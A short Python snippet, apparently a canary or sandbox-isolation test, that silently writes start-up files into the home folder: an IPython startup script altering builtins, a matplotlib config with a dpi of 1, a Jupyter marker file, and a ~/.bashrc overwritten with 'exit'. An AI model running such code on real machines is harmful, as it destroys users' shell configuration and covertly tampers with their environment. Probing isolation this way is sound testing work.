"""Leaves start-up files in the home folder: IPython's, matplotlib's, Jupyter's and the shell's.

canary: next
"""
# %% own
import os
home = os.path.expanduser("~")
for name, text in ((".ipython/profile_default/startup/00.py", f"import builtins; setattr(builtins, {canary['poison']!r}, 1)\n"),
                   (".config/matplotlib/matplotlibrc", "figure.dpi: 1\n"), (".bashrc", "exit\n"), (".jupyter/" + canary["poison"], "")):
    try:
        os.makedirs(os.path.dirname(os.path.join(home, name)), exist_ok=True)
        with open(os.path.join(home, name), "w") as f: f.write(text)
    except OSError: pass
